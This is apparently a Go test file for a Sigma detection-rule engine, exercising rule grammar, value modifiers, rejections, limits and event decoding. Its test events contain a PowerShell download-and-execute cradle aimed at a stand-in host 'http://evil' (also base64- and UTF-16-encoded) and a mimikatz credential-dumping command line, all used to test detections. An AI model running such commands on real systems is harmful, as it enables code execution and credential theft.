package sigma

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/medshield/medshield/internal/event"
	"github.com/medshield/medshield/internal/sigma/syntax"
)

// testMapping routes nothing: every test rule runs on every event.
func testMapping() *Mapping {
	return &Mapping{ChannelField: "Channel", EventIDField: "EventID", ProviderField: "Provider_Name"}
}

// compileDetection builds a one-rule set from a detection section.
func compileDetection(t *testing.T, detection string, ph map[string][]string) (*RuleSet, Diagnostics) {
	t.Helper()
	var b strings.Builder
	b.WriteString("title: test rule\nid: 11111111-2222-3333-4444-555555555555\nlevel: high\nlogsource:\n    product: test\ndetection:\n")
	for _, l := range strings.Split(strings.Trim(detection, "\n"), "\n") {
		b.WriteString("    " + l + "\n")
	}
	f := syntax.ParseFile("test.yml", []byte(b.String()))
	return Compile([]*syntax.File{f}, Options{Mapping: testMapping(), Placeholders: ph})
}

func utf16le(s string) []byte {
	var out []byte
	for _, c := range utf16.Encode([]rune(s)) {
		out = append(out, byte(c), byte(c>>8))
	}
	return out
}

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

type matchCase struct {
	name      string
	detection string
	event     MapEvent
	want      bool
}

func runMatchCases(t *testing.T, cases []matchCase, ph map[string][]string) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rs, diags := compileDetection(t, tc.detection, ph)
			if err := diags.Err(); err != nil {
				t.Fatalf("rule rejected: %v", err)
			}
			got := len(rs.Match(tc.event)) == 1
			if got != tc.want {
				t.Errorf("match = %v, want %v\nevent: %v", got, tc.want, tc.event)
			}
		})
	}
}

// TestConditionForms covers every condition construct of the grammar.
func TestConditionForms(t *testing.T) {
	ev := MapEvent{"A": "1", "B": "2", "C": "3"}
	sels := "sel_a: {A: '1'}\nsel_b: {B: '2'}\nsel_x: {A: 'x'}\n_hidden: {A: 'nope'}\n"
	cases := []matchCase{
		{"single identifier", sels + "condition: sel_a", ev, true},
		{"and", sels + "condition: sel_a and sel_b", ev, true},
		{"and false", sels + "condition: sel_a and sel_x", ev, false},
		{"or", sels + "condition: sel_x or sel_b", ev, true},
		{"not", sels + "condition: not sel_x", ev, true},
		{"and binds tighter than or", sels + "condition: sel_a or sel_x and sel_x", ev, true},
		{"parentheses override", sels + "condition: (sel_a or sel_x) and sel_x", ev, false},
		{"not binds tighter than and", sels + "condition: not sel_x and sel_a", ev, true},
		{"not of a group", sels + "condition: not (sel_a and sel_b)", ev, false},
		{"double negation", sels + "condition: not not sel_a", ev, true},
		{"1 of pattern", sels + "condition: 1 of sel_*", ev, true},
		{"all of pattern", sels + "condition: all of sel_*", ev, false},
		{"all of narrower pattern", sels + "condition: all of sel_[ab]", ev, true},
		{"1 of them", sels + "condition: 1 of them", ev, true},
		{"all of them skips underscore identifiers", "sel_a: {A: '1'}\nsel_b: {B: '2'}\n_hidden: {A: 'nope'}\ncondition: all of them", ev, true},
		{"2 of pattern", sels + "condition: 2 of sel_*", ev, true},
		{"3 of pattern", sels + "condition: 3 of sel_*", ev, false},
		{"condition list is or", sels + "condition:\n    - sel_x\n    - sel_b", ev, true},
		{"upper-case operators", sels + "condition: sel_a AND NOT sel_x", ev, true},
	}
	runMatchCases(t, cases, nil)
}

// TestValueSemantics covers wildcards, escapes, case, types, null, lists.
func TestValueSemantics(t *testing.T) {
	path := MapEvent{"Image": `C:\Windows\System32\cmd.exe`, "Star": `a*b`, "BS": `C:\dir\*`, "Q": "a?c", "N": "4624", "E": "", "Nil": nil}
	cases := []matchCase{
		{"exact, case-insensitive", `s: {Image: 'c:\windows\system32\CMD.EXE'}` + "\ncondition: s", path, true},
		{"exact needs the whole value", `s: {Image: 'cmd.exe'}` + "\ncondition: s", path, false},
		{"star wildcard", `s: {Image: '*\cmd.exe'}` + "\ncondition: s", path, true},
		{"star after an escaped backslash", `s: {Image: 'C:\\*\cmd.exe'}` + "\ncondition: s", path, true},
		{"backslash-star is an escaped star", `s: {Image: 'C:\*\cmd.exe'}` + "\ncondition: s", path, false},
		{"question mark is one character", `s: {Image: 'C:\Windows\System32\cm?.exe'}` + "\ncondition: s", path, true},
		{"question mark is exactly one", `s: {Image: 'C:\Windows\System32\c?.exe'}` + "\ncondition: s", path, false},
		{"escaped star is literal", `s: {Star: 'a\*b'}` + "\ncondition: s", path, true},
		{"escaped star does not match anything", `s: {Star: 'a\*b'}` + "\ncondition: s", MapEvent{"Star": "axxb"}, false},
		{"escaped question mark", `s: {Q: 'a\?c'}` + "\ncondition: s", path, true},
		{"escaped question mark is literal", `s: {Q: 'a\?c'}` + "\ncondition: s", MapEvent{"Q": "abc"}, false},
		{"plain backslash before a letter", `s: {Image: 'C:\Windows\System32\cmd.exe'}` + "\ncondition: s", path, true},
		{"double backslash is one", `s: {Image: 'C:\\Windows\\System32\\cmd.exe'}` + "\ncondition: s", path, true},
		{"escaped backslash then wildcard", `s: {BS: 'C:\dir\\*'}` + "\ncondition: s", MapEvent{"BS": `C:\dir\anything`}, true},
		{"three backslashes: backslash and literal star", `s: {BS: 'C:\dir\\\*'}` + "\ncondition: s", path, true},
		{"three backslashes do not wildcard", `s: {BS: 'C:\dir\\\*'}` + "\ncondition: s", MapEvent{"BS": `C:\dir\x`}, false},
		{"number value matches string field", "s: {N: 4624}\ncondition: s", path, true},
		{"number value matches number field", "s: {N: 4624}\ncondition: s", MapEvent{"N": 4624}, true},
		{"list is or", "s: {N: [1, 2, 4624]}\ncondition: s", path, true},
		{"map is and", "s: {N: 4624, Image: '*cmd.exe'}\ncondition: s", path, true},
		{"map is and (false)", "s: {N: 4624, Image: '*pwsh.exe'}\ncondition: s", path, false},
		{"list of maps is or", "s:\n    - {N: 1}\n    - {Image: '*cmd.exe'}\ncondition: s", path, true},
		{"empty string matches empty", "s: {E: ''}\ncondition: s", path, true},
		{"empty string does not match value", "s: {N: ''}\ncondition: s", path, false},
		{"null matches absent field", "s: {Missing: null}\ncondition: s", path, true},
		{"null matches null value", "s: {Nil: null}\ncondition: s", path, true},
		{"null does not match a value", "s: {N: null}\ncondition: s", path, false},
		{"not null", "s: {N: null}\ncondition: not s", path, true},
		{"absent field does not match a value", "s: {Missing: 'x'}\ncondition: s", path, false},
		{"star alone needs the field", "s: {Missing: '*'}\ncondition: s", path, false},
		{"bool value", "s: {B: true}\ncondition: s", MapEvent{"B": true}, true},
		{"list-valued field matches any element", "s: {L: 'b'}\ncondition: s", MapEvent{"L": []any{"a", "b"}}, true},
		{"unicode case folding", "s: {U: 'ÄRGER'}\ncondition: s", MapEvent{"U": "ärger"}, true},
	}
	runMatchCases(t, cases, nil)
}

// TestKeywords covers keyword lists, '|all' and keyword wildcards.
func TestKeywords(t *testing.T) {
	ev := MapEvent{"CommandLine": "mimikatz.exe sekurlsa::logonpasswords exit", "User": "SYSTEM"}
	cases := []matchCase{
		{"keyword is a substring of any value", "k:\n    - 'sekurlsa::'\n    - 'nope'\ncondition: k", ev, true},
		{"keyword is case-insensitive", "k:\n    - 'SEKURLSA::LOGON'\ncondition: k", ev, true},
		{"keyword in another field", "k:\n    - 'system'\ncondition: k", ev, true},
		{"no keyword", "k:\n    - 'kerberos::'\ncondition: k", ev, false},
		{"all keywords", "k:\n    '|all':\n        - 'mimikatz'\n        - 'exit'\ncondition: k", ev, true},
		{"all keywords (one missing)", "k:\n    '|all':\n        - 'mimikatz'\n        - 'lsadump'\ncondition: k", ev, false},
		{"keyword with wildcards", "k:\n    - 'mimi*::logon*'\ncondition: k", ev, true},
		{"keyword wildcard anchored to a value", "k:\n    - 'sekurlsa*'\ncondition: k", ev, false},
		{"keywords do not cross values", "k:\n    - 'exit system'\ncondition: k", ev, false},
	}
	runMatchCases(t, cases, nil)
}

// TestModifiers covers every value modifier of the specification.
func TestModifiers(t *testing.T) {
	cl := MapEvent{"CommandLine": `powershell.exe -NoProfile -EncodedCommand SQBFAFgA`, "Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"ParentImage": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "DestinationIp": "10.1.2.3", "SrcIp6": "fe80::1",
		"Port": "445", "Hex": "0x1F", "Size": 1500, "UtcTime": "2024-03-05 14:07:09.123", "User": "CORP\\admin_joe"}
	payload := "IEX (New-Object Net.WebClient).DownloadString('http://evil')"
	cases := []matchCase{
		{"contains", "s: {CommandLine|contains: 'noprofile'}\ncondition: s", cl, true},
		{"startswith", "s: {CommandLine|startswith: 'POWERSHELL'}\ncondition: s", cl, true},
		{"startswith is anchored", "s: {CommandLine|startswith: 'noprofile'}\ncondition: s", cl, false},
		{"endswith", "s: {Image|endswith: '\\powershell.exe'}\ncondition: s", cl, true},
		{"endswith is anchored", "s: {Image|endswith: '\\system32'}\ncondition: s", cl, false},
		{"contains keeps inner wildcards", "s: {CommandLine|contains: '-no*-enc'}\ncondition: s", cl, true},
		{"contains|all", "s: {CommandLine|contains|all: ['-noprofile', '-encodedcommand']}\ncondition: s", cl, true},
		{"contains|all (one missing)", "s: {CommandLine|contains|all: ['-noprofile', '-windowstyle']}\ncondition: s", cl, false},
		{"all on plain values", "s: {Port|all: ['445', '4*']}\ncondition: s", cl, true},
		{"re is case-sensitive", "s: {CommandLine|re: 'NOPROFILE'}\ncondition: s", cl, false},
		{"re", "s: {CommandLine|re: '-No[A-Za-z]+ -Enc'}\ncondition: s", cl, true},
		{"re|i", "s: {CommandLine|re|i: 'NOPROFILE'}\ncondition: s", cl, true},
		{"re is unanchored", "s: {Port|re: '4'}\ncondition: s", cl, true},
		{"re|m", "s: {Text|re|m: '^second$'}\ncondition: s", MapEvent{"Text": "first\nsecond\nthird"}, true},
		{"re without m", "s: {Text|re: '^second$'}\ncondition: s", MapEvent{"Text": "first\nsecond\nthird"}, false},
		{"re|s", "s: {Text|re|s: 'first.second'}\ncondition: s", MapEvent{"Text": "first\nsecond"}, true},
		{"re without s", "s: {Text|re: 'first.second'}\ncondition: s", MapEvent{"Text": "first\nsecond"}, false},
		{"cidr v4", "s: {DestinationIp|cidr: '10.0.0.0/8'}\ncondition: s", cl, true},
		{"cidr v4 outside", "s: {DestinationIp|cidr: ['192.168.0.0/16', '172.16.0.0/12']}\ncondition: s", cl, false},
		{"cidr v6", "s: {SrcIp6|cidr: 'fe80::/10'}\ncondition: s", cl, true},
		{"cidr ignores non-addresses", "s: {Port|cidr: '0.0.0.0/0'}\ncondition: s", cl, false},
		{"base64", "s: {Enc|base64: 'cmd.exe'}\ncondition: s", MapEvent{"Enc": b64([]byte("cmd.exe"))}, true},
		{"base64|contains", "s: {Enc|base64|contains: 'cmd.exe'}\ncondition: s", MapEvent{"Enc": "xx" + b64([]byte("cmd.exe")) + "yy"}, true},
		{"base64offset|contains offset 0", "s: {Enc|base64offset|contains: 'DownloadString'}\ncondition: s", MapEvent{"Enc": b64([]byte("abc" + payload))}, true},
		{"base64offset|contains offset 1", "s: {Enc|base64offset|contains: 'DownloadString'}\ncondition: s", MapEvent{"Enc": b64([]byte("abcd" + payload))}, true},
		{"base64offset|contains offset 2", "s: {Enc|base64offset|contains: 'DownloadString'}\ncondition: s", MapEvent{"Enc": b64([]byte("abcde" + payload))}, true},
		{"base64offset|contains absent", "s: {Enc|base64offset|contains: 'Invoke-Mimikatz'}\ncondition: s", MapEvent{"Enc": b64([]byte("abcde" + payload))}, false},
		{"wide|base64offset|contains", "s: {Enc|wide|base64offset|contains: 'DownloadString'}\ncondition: s", MapEvent{"Enc": b64(utf16le("x" + payload))}, true},
		{"utf16le|base64offset|contains", "s: {Enc|utf16le|base64offset|contains: 'DownloadString'}\ncondition: s", MapEvent{"Enc": b64(utf16le("xy" + payload))}, true},
		{"wide", "s: {Raw|wide|contains: 'cmd'}\ncondition: s", MapEvent{"Raw": "..." + string(utf16le("cmd")) + "..."}, true},
		{"utf16be", "s: {Raw|utf16be: 'ab'}\ncondition: s", MapEvent{"Raw": "\x00a\x00b"}, true},
		{"utf16 has a byte order mark", "s: {Raw|utf16: 'ab'}\ncondition: s", MapEvent{"Raw": "\xff\xfea\x00b\x00"}, true},
		{"windash slash for dash", "s: {CommandLine|windash|contains: ' -encodedcommand'}\ncondition: s", MapEvent{"CommandLine": "powershell /EncodedCommand x"}, true},
		{"windash en dash", "s: {CommandLine|contains|windash: ' -enc '}\ncondition: s", MapEvent{"CommandLine": "powershell \u2013enc x"}, true},
		{"windash em dash and horizontal bar", "s: {CommandLine|contains|windash: ' -e -f '}\ncondition: s", MapEvent{"CommandLine": "x \u2014e \u2015f y"}, true},
		{"windash keeps other characters", "s: {CommandLine|windash|contains: ' -enc'}\ncondition: s", MapEvent{"CommandLine": "powershell +enc"}, false},
		{"exists true", "s: {Port|exists: true}\ncondition: s", cl, true},
		{"exists false on a present field", "s: {Port|exists: false}\ncondition: s", cl, false},
		{"exists false on an absent field", "s: {Nope|exists: false}\ncondition: s", cl, true},
		{"fieldref equal", "s: {Image|fieldref: ParentImage}\ncondition: s", cl, true},
		{"fieldref different", "s: {Image|fieldref: CommandLine}\ncondition: s", cl, false},
		{"fieldref|endswith", "s: {CommandLine|fieldref|endswith: Tail}\ncondition: s", MapEvent{"CommandLine": "a b c", "Tail": "B C"}, true},
		{"neq|fieldref", "s: {Image|neq|fieldref: CommandLine}\ncondition: s", cl, true},
		{"gt", "s: {Port|gt: 100}\ncondition: s", cl, true},
		{"gt false", "s: {Port|gt: 445}\ncondition: s", cl, false},
		{"gte", "s: {Port|gte: 445}\ncondition: s", cl, true},
		{"lt", "s: {Size|lt: 1501}\ncondition: s", cl, true},
		{"lte", "s: {Size|lte: 1499}\ncondition: s", cl, false},
		{"gt on hex", "s: {Hex|gt: 30}\ncondition: s", cl, true},
		{"gt ignores non-numbers", "s: {CommandLine|gt: 0}\ncondition: s", cl, false},
		{"neq", "s: {Port|neq: 80}\ncondition: s", cl, true},
		{"neq equal", "s: {Port|neq: 445}\ncondition: s", cl, false},
		{"neq list: differs from every value", "s: {Port|neq: [80, 445]}\ncondition: s", cl, false},
		{"cased", "s: {CommandLine|cased|contains: '-NoProfile'}\ncondition: s", cl, true},
		{"cased rejects other case", "s: {CommandLine|cased|contains: '-noprofile'}\ncondition: s", cl, false},
		{"hour", "s: {UtcTime|hour: 14}\ncondition: s", cl, true},
		{"minute", "s: {UtcTime|minute: 7}\ncondition: s", cl, true},
		{"day", "s: {UtcTime|day: 5}\ncondition: s", cl, true},
		{"week", "s: {UtcTime|week: 10}\ncondition: s", cl, true},
		{"month", "s: {UtcTime|month: 4}\ncondition: s", cl, false},
		{"year", "s: {UtcTime|year: 2024}\ncondition: s", cl, true},
		{"hour|gte", "s: {UtcTime|hour|gte: 18}\ncondition: s", cl, false},
		{"expand", "s: {User|expand: '%Admins%'}\ncondition: s", cl, true},
		{"expand with wildcard text around", "s: {User|expand|contains: '%Prefix%'}\ncondition: s", cl, true},
		{"expand escaped percent is literal", "s: {Pct|expand: '\\%Admins%'}\ncondition: s", MapEvent{"Pct": "%Admins%"}, true},
		{"placeholder without expand is literal", "s: {Pct: '%Admins%'}\ncondition: s", MapEvent{"Pct": "%Admins%"}, true},
	}
	runMatchCases(t, cases, map[string][]string{"Admins": {`CORP\admin_*`, "root"}, "Prefix": {"admin_"}})
}

// TestRejections checks that bad rules are rejected with the right code
// and a message that names the problem, and that nothing else breaks.
func TestRejections(t *testing.T) {
	cases := []struct {
		name, detection, code, msg string
	}{
		{"unknown modifier", "s: {A|sortof: x}\ncondition: s", syntax.CodeModifier, `modifier "sortof"`},
		{"two wildcard modifiers", "s: {A|contains|endswith: x}\ncondition: s", syntax.CodeModifier, "only one of contains"},
		{"regex flag without re", "s: {A|i: x}\ncondition: s", syntax.CodeModifier, "need the re modifier"},
		{"lookahead", "s: {A|re: 'a(?=b)'}\ncondition: s", syntax.CodeRegex, "lookahead"},
		{"negative lookbehind", "s: {A|re: '(?<!x)a'}\ncondition: s", syntax.CodeRegex, "negative lookbehind"},
		{"backreference", `s: {A|re: '(a)\1'}` + "\ncondition: s", syntax.CodeRegex, "backreference"},
		{"atomic group", "s: {A|re: '(?>ab)'}\ncondition: s", syntax.CodeRegex, "atomic group"},
		{"bad regex", "s: {A|re: 'a(b'}\ncondition: s", syntax.CodeRegex, "does not compile"},
		{"bad cidr", "s: {A|cidr: 'ten/8'}\ncondition: s", syntax.CodeValue, "not a CIDR"},
		{"gt needs a number", "s: {A|gt: ten}\ncondition: s", syntax.CodeValue, "not a number"},
		{"exists needs a bool", "s: {A|exists: maybe}\ncondition: s", syntax.CodeValue, "true or false"},
		{"undefined placeholder", "s: {A|expand: '%Nowhere%'}\ncondition: s", syntax.CodePlaceholder, "%Nowhere% is not defined"},
		{"null in a list", "s: {A: ['x', null]}\ncondition: s", syntax.CodePlaceholder, "null cannot be one of several"},
		{"base64 of a wildcard", "s: {A|base64: 'a*'}\ncondition: s", syntax.CodeValue, "cannot encode a value with wildcards"},
		{"unknown identifier", "s: {A: x}\ncondition: s and t", syntax.CodeCondition, `refers to "t"`},
		{"pattern matching nothing", "s: {A: x}\ncondition: 1 of filter*", syntax.CodeCondition, "matches no search identifier"},
		{"aggregation pipe", "s: {A: x}\ncondition: s | count() > 5", syntax.CodeObsolete, "correlation rule"},
		{"near", "s: {A: x}\ncondition: s near t", syntax.CodeCondition, "expected"},
		{"unbalanced parenthesis", "s: {A: x}\ncondition: (s", syntax.CodeCondition, `expected ")"`},
		{"dangling and", "s: {A: x}\ncondition: s and", syntax.CodeCondition, "found end of condition"},
		{"no condition", "s: {A: x}", syntax.CodeStructure, "no condition"},
		{"empty value list", "s: {A: []}\ncondition: s", syntax.CodeValue, "empty list"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rs, diags := compileDetection(t, tc.detection, nil)
			errs := diags.Errors()
			if len(errs) == 0 {
				t.Fatalf("rule accepted, want rejection %s", tc.code)
			}
			if rs.Stats.Rejected != 1 || rs.Stats.Loaded != 0 {
				t.Errorf("stats %+v, want 1 rejected", rs.Stats)
			}
			d := errs[0]
			if d.Code != tc.code || !strings.Contains(d.Message, tc.msg) {
				t.Errorf("got %s, want code %s and a message containing %q", d, tc.code, tc.msg)
			}
			if d.Pos.Line == 0 || d.Pos.File != "test.yml" {
				t.Errorf("diagnostic has no position: %s", d)
			}
		})
	}
}

// TestDiagnosticPointsAtTheBadValue checks line and column of a rejection.
func TestDiagnosticPointsAtTheBadValue(t *testing.T) {
	src := "title: t\nid: r1\nlogsource: {product: test}\ndetection:\n    sel:\n        A|re: 'x(?=y)'\n    condition: sel\n"
	rs, diags := Compile([]*syntax.File{syntax.ParseFile("r.yml", []byte(src))}, Options{Mapping: testMapping()})
	if rs.Stats.Rejected != 1 || len(diags) != 1 {
		t.Fatalf("want one rejection, got %v", diags)
	}
	d := diags[0]
	if d.Pos.Line != 6 || d.Pos.Col != 15 || d.RuleID != "r1" {
		t.Errorf("got %s, want r.yml:6:15 for rule r1", d)
	}
	if want := "r.yml:6:15: error[S006]"; !strings.HasPrefix(d.String(), want) {
		t.Errorf("rendered %q, want prefix %q", d.String(), want)
	}
}

// TestOneBadRuleDoesNotStopTheOthers loads a multi-document file with a bad
// rule between two good ones.
func TestOneBadRuleDoesNotStopTheOthers(t *testing.T) {
	src := `title: good one
id: g1
logsource: {product: test}
detection: {s: {A: '1'}, condition: s}
---
title: bad
id: b1
logsource: {product: test}
detection: {s: {A|nonsense: '1'}, condition: s}
---
title: good two
id: g2
logsource: {product: test}
detection: {s: {A: '1'}, condition: s}
`
	rs, diags := Compile([]*syntax.File{syntax.ParseFile("m.yml", []byte(src))}, Options{Mapping: testMapping()})
	if rs.Stats.Loaded != 2 || rs.Stats.Rejected != 1 || len(diags.Errors()) != 1 || diags[0].RuleID != "b1" {
		t.Fatalf("stats %+v diags %v", rs.Stats, diags)
	}
	ms := rs.Match(MapEvent{"A": "1"})
	if len(ms) != 2 || ms[0].Rule.ID != "g1" || ms[1].Rule.ID != "g2" {
		t.Errorf("matches %v, want g1 then g2", ms)
	}
}

// TestECSEventReachesSigmaNames checks that rules written for Windows
// field names match medshield events carrying ECS or winlog fields.
func TestECSEventReachesSigmaNames(t *testing.T) {
	rs, diags := compileDetection(t, "s:\n    Image|endswith: '\\cmd.exe'\n    ParentImage|endswith: '\\winword.exe'\n    IntegrityLevel: High\ncondition: s", nil)
	if err := diags.Err(); err != nil {
		t.Fatal(err)
	}
	ev := event.New("event", "windows.sysmon", "process-start")
	ev.Process = &event.Process{Executable: `C:\Windows\System32\cmd.exe`}
	ev.Fields = map[string]any{"process.parent.executable": `C:\Office\WINWORD.EXE`, "winlog.event_data.IntegrityLevel": "High"}
	if ms := rs.Match(FromEvent(&ev)); len(ms) != 1 {
		t.Errorf("ECS event did not match: %v", FromEvent(&ev).flat)
	}
	ev.Fields["winlog.event_data.IntegrityLevel"] = "Low"
	if ms := rs.Match(FromEvent(&ev)); len(ms) != 0 {
		t.Errorf("ECS event matched with the wrong IntegrityLevel")
	}
}

// TestAllWithExpandingModifiers: "all" needs every value as written, any of
// the alternatives an encoding or placeholder expands it into.
func TestAllWithExpandingModifiers(t *testing.T) {
	enc := MapEvent{"Enc": b64([]byte("xIEX (New-Object Net.WebClient).DownloadString"))}
	cases := []matchCase{
		{"base64offset|contains|all", "s: {Enc|base64offset|contains|all: ['IEX', 'DownloadString']}\ncondition: s", enc, true},
		{"base64offset|contains|all (one absent)", "s: {Enc|base64offset|contains|all: ['IEX', 'Invoke-Mimikatz']}\ncondition: s", enc, false},
		{"expand|all", "s: {User|expand|contains|all: ['%Admins%', 'joe']}\ncondition: s", MapEvent{"User": `CORP\admin_joe`}, true},
	}
	runMatchCases(t, cases, map[string][]string{"Admins": {"admin_", "root"}})
}

// TestHardLimits: each limit on untrusted rules is enforced with a
// diagnostic, not a crash or an unbounded allocation.
func TestHardLimits(t *testing.T) {
	many := make([]string, syntax.MaxValuesPerKey+1)
	for i := range many {
		many[i] = "v"
	}
	cases := []struct {
		name, detection string
		ph              map[string][]string
		msg             string
	}{
		{"values per field", "s:\n    A: [" + strings.Join(many, ", ") + "]\ncondition: s", nil, "more than the limit"},
		{"regex length", "s: {A|re: '" + strings.Repeat("a", MaxRegexLength+1) + "'}\ncondition: s", nil, "more than the limit"},
		{"placeholder expansion", "s: {A|expand: '%P%%P%%P%'}\ncondition: s", map[string][]string{"P": many[:100]}, "expands to more than"},
		{"condition length", "s: {A: x}\ncondition: s" + strings.Repeat(" or s", syntax.MaxConditionLength/5+1), nil, "longer than"},
		{"condition depth", "s: {A: x}\ncondition: " + strings.Repeat("(", 100) + "s" + strings.Repeat(")", 100), nil, "nested more than"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rs, diags := compileDetection(t, tc.detection, tc.ph)
			errs := diags.Errors()
			if len(errs) == 0 || rs.Stats.Rejected != 1 || !strings.Contains(errs[0].Message, tc.msg) {
				t.Errorf("got %v (stats %+v), want a rejection mentioning %q", errs, rs.Stats, tc.msg)
			}
		})
	}
	t.Run("documents per file", func(t *testing.T) {
		doc := "title: d\nlogsource: {product: test}\ndetection: {s: {A: x}, condition: s}\n---\n"
		f := syntax.ParseFile("many.yml", []byte(strings.Repeat(doc, syntax.MaxDocuments+1)))
		if len(f.Documents) != syntax.MaxDocuments || len(f.Diags) != 1 || f.Diags[0].Code != syntax.CodeLimit {
			t.Errorf("%d documents, diags %v", len(f.Documents), f.Diags)
		}
	})
}

// TestJSONEventLayouts: rust-evtx JSON, medshield evtx dump JSON and
// exported medshield (ECS) events all reach the Sigma field names.
func TestJSONEventLayouts(t *testing.T) {
	m, err := DefaultMapping()
	if err != nil {
		t.Fatal(err)
	}
	src := "title: svc\nid: s1\nlogsource: {product: windows, service: security}\ndetection: {s: {EventID: 7045, ServiceName: evil}, condition: s}\n"
	rs, diags := Compile([]*syntax.File{syntax.ParseFile("s.yml", []byte(src))}, Options{Mapping: m})
	if err := diags.Err(); err != nil {
		t.Fatal(err)
	}
	inputs := map[string]string{
		"rust evtx":   `{"Event":{"System":{"EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},"Channel":"Security"},"EventData":{"Service Name":"evil"}}}`,
		"evtx dump":   `{"System":{"EventID":"7045","Channel":"Security"},"EventData":{"ServiceName":"evil"}}`,
		"ECS export":  `{"winlog":{"channel":"Security","event_id":7045,"event_data":{"ServiceName":"evil"}}}`,
		"flat dotted": `{"winlog.channel":"Security","event.code":"7045","winlog.event_data.ServiceName":"evil"}`,
	}
	for name, in := range inputs {
		n := 0
		err := DecodeJSON(strings.NewReader(in), func(ev Event) error {
			n += len(rs.Match(ev))
			return nil
		})
		if err != nil || n != 1 {
			t.Errorf("%s: %d matches, err %v", name, n, err)
		}
	}
}

// TestDecodeJSONBoundsOneEvent: an object larger than MaxJSONEvent is an
// error after the events before it were delivered.
func TestDecodeJSONBoundsOneEvent(t *testing.T) {
	big := `{"a":"` + strings.Repeat("x", MaxJSONEvent+10) + `"}`
	n := 0
	err := DecodeJSON(strings.NewReader(`{"EventID":"1"}`+"\n"+big+"\n"), func(Event) error { n++; return nil })
	if n != 1 || err == nil || !strings.Contains(err.Error(), "larger than") {
		t.Errorf("got %d events, err %v; want 1 and a size error", n, err)
	}
	// Many small events in total far more than the limit are fine.
	var b strings.Builder
	for b.Len() < 2*MaxJSONEvent {
		b.WriteString(`{"EventID":"1","Pad":"` + strings.Repeat("y", 4000) + `"}` + "\n")
	}
	n = 0
	if err := DecodeJSON(strings.NewReader(b.String()), func(Event) error { n++; return nil }); err != nil || n < 8000 {
		t.Errorf("stream of small events: %d events, err %v", n, err)
	}
}
